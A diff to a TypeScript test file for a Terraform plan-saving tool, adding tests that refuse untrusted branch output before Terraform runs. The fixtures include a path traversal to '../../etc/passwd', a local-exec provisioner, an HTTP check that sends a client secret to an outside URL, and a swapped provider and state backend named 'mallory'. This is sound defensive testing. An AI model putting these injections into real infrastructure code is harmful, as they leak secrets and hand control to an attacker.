@@ -1,8 +1,18 @@
-import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync, statSync, writeFileSync } from 'node:fs';
+import {
+  existsSync,
+  mkdirSync,
+  mkdtempSync,
+  readFileSync,
+  readdirSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { FakeS3 } from '../bootstrap/fake-s3';
 import { startFakeS3 } from '../bootstrap/fake-s3';
+import { synthesizeApp } from '../../src/synthesis/synthesized-app';
 import { planText } from '../review/plans';
 import { runCommand, spawnCommand } from './run-command';
 import './shared-synthesis';
@@ -90,6 +100,109 @@ test('a plan is saved, its digest is printed, and what a plan shows is not', asy
     'tfplan',
   ];
   expect(readdirSync(at('saved')).sort()).toEqual(files);
+});
+
+describe('what another branch synthesized', () => {
+  const STACK = 'stacks/cognito-m2m-demo-dev';
+  const stackFile = (side: 'base' | 'head') => at(`${side}/${STACK}/cdk.tf.json`);
+
+  /** Both sides as `cdktf synth` leaves them, then one thing more on the head's. */
+  async function saveHead(
+    change: (json: Record<string, unknown>) => void = () => undefined,
+    args: readonly string[] = [],
+  ) {
+    for (const side of ['base', 'head']) {
+      mkdirSync(at(side));
+      await synthesizeApp(path.resolve('examples/pool-only.ts'), at(side), {
+        variables: { M2M_REGION: 'eu-central-1', M2M_AWS_ENDPOINT_URL: fake.url },
+      });
+    }
+    const json = JSON.parse(readFileSync(stackFile('head'), 'utf8')) as Record<string, unknown>;
+    change(json);
+    writeFileSync(stackFile('head'), JSON.stringify(json));
+    return run('plan-save', ['--head', at('head'), '--base', at('base'), '--out', at('saved'), ...args]);
+  }
+
+  test('is planned as data, whatever its list of stacks says, and left as it is', async () => {
+    const { exitCode, stdout, calls } = await saveHead(() => {
+      writeFileSync(
+        at('head/manifest.json'),
+        '{"stacks":{"x":{"name":"x","synthesizedStackPath":"../../etc/passwd"}}}',
+      );
+    });
+    expect({ exitCode, calls: calls.length }).toEqual({ exitCode: 0, calls: 3 });
+    expect(stdout).toMatch(/^stack=cognito-m2m-demo-dev\n/);
+    expect(readdirSync(at(`head/${STACK}`)).sort()).toEqual(['access.json', 'cdk.tf.json', 'settings.json']);
+  });
+
+  test.each<[string, (json: Record<string, unknown>) => void]>([
+    [
+      'provisioner',
+      ({ resource }) => {
+        const { aws_cognito_user_pool: pools } = resource as Record<string, Record<string, Record<string, unknown>>>;
+        for (const pool of Object.values(pools ?? {})) pool.provisioner = { 'local-exec': { command: 'env' } };
+      },
+    ],
+    [
+      'import',
+      (json) => {
+        json.import = [{ to: 'aws_iam_role.x', id: 'admin' }];
+      },
+    ],
+    [
+      'check',
+      (json) => {
+        json.check = {
+          sent: {
+            data: { http: { x: { url: 'https://example.com/${aws_cognito_user_pool_client.x.client_secret}' } } },
+          },
+        };
+      },
+    ],
+    [
+      'file cdk_override.tf.json',
+      () => {
+        writeFileSync(at(`head/${STACK}/cdk_override.tf.json`), '{}');
+      },
+    ],
+    [
+      'provider aws',
+      ({ terraform }) => {
+        const { required_providers: sources } = terraform as { required_providers: Record<string, unknown> };
+        sources.aws = { source: 'mallory/aws' };
+      },
+    ],
+    [
+      'backend',
+      ({ terraform }) => {
+        Object.assign(terraform as object, {
+          backend: { s3: { bucket: 'mallory', key: 'x', region: 'eu-central-1' } },
+        });
+      },
+    ],
+  ])('with a new %s is refused before Terraform starts', async (subject, change) => {
+    const { exitCode, stdout, stderr, calls } = await saveHead(change);
+    expect({ exitCode, stdout, calls }).toEqual({ exitCode: 1, stdout: '', calls: [] });
+    expect(stderr).toContain(` has ${subject} (`);
+    expect(stderr).toContain('; nothing was run, remove it or name it with --allow\n');
+    expect(existsSync(at('saved'))).toBe(false);
+  });
+
+  test('with what the operator allows by its name is planned', async () => {
+    const { exitCode } = await saveHead(
+      (json) => {
+        json.import = [{ to: 'aws_iam_role.x', id: 'admin' }];
+      },
+      ['--allow', 'import'],
+    );
+    expect(exitCode).toBe(0);
+  });
+
+  test('needs the base, which says what is expected', async () => {
+    const { exitCode, stderr } = await run('plan-save', ['--head', at('head'), '--out', at('saved')]);
+    expect(exitCode).toBe(2);
+    expect(stderr).toBe('error: expected --head and --base together, or neither; add or remove one\n');
+  });
 });
 
 test('processes of their own do the same', async () => {
@@ -204,7 +317,7 @@ describe('drift', () => {
     expect(drift.exitCode).toBe(exitCode);
     expect(drift.calls).toEqual(['init -input=false', 'plan -input=false -out=tfplan', 'show -json tfplan']);
     expect(drift.stdout).toMatch(/^<!-- m2m-drift: cognito-m2m-demo-dev -->\n/);
-    const told = '- `client` loses no route; it no longer holds `m2m-client/write`';
+    const told = '- `client` no longer holds `m2m-client/write`, which opened no route';
     expect(drift.stdout.split('\n').includes(told)).toBe(exitCode === 1);
   });
 
@@ -215,7 +328,7 @@ describe('drift', () => {
     expect(JSON.parse(stdout)).toEqual({
       stack: 'cognito-m2m-demo-dev',
       drifted: true,
-      access: [{ kinds: ['access-loss'], text: 'client loses no route; it no longer holds m2m-client/write' }],
+      access: [{ kinds: ['access-loss'], text: 'client no longer holds m2m-client/write, which opened no route' }],
       outside: [
         {
           address: CLIENT,
